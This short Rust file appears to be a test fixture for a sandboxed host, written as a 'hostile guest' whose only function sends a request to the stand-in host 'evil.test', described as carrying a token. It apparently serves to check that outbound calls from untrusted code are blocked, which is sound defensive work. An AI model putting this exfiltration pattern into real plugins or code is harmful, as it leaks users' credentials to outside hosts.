//! Asks another host, with the token.

use hostile_guests::{Request, attack};

attack!(run);

fn run(_: String) -> String {
    Request::get().to("evil.test").outcome()
}
